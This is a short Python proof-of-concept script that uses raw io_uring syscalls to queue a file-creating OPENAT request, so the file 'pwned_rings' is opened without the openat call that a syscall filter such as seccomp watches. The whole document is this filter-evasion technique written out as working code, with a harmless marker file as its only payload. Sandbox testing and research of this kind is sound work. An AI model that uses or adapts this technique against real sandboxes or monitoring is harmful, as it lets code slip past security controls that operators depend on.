"""file: io_uring is asked to open a file, past the calls that a filter sees (x86-64)."""

import ctypes
import mmap
import struct

libc = ctypes.CDLL(None, use_errno=True)
params = ctypes.create_string_buffer(120)
ring = libc.syscall(425, 8, params)
if ring < 0:
    raise OSError(ctypes.get_errno(), "io_uring_setup")
fields = struct.unpack("30I", params.raw)
tail_at, mask_at, array_at = fields[11], fields[12], fields[16]
sq = mmap.mmap(ring, fields[16] + fields[0] * 4, offset=0)
sqes = mmap.mmap(ring, fields[0] * 64, offset=0x10000000)
path = ctypes.create_string_buffer(b"pwned_rings")
OPENAT, CREAT = 18, 0o101
sqes[:64] = struct.pack(
    "<BBHiQQIIQHHIQQ", OPENAT, 0, 0, -100, 0, ctypes.addressof(path), 0o600, CREAT, 1, 0, 0, 0, 0, 0
)
sq[array_at : array_at + 4] = struct.pack("I", 0)
sq[tail_at : tail_at + 4] = struct.pack("I", 1)
done = libc.syscall(426, ring, 1, 1, 1, None, 0)
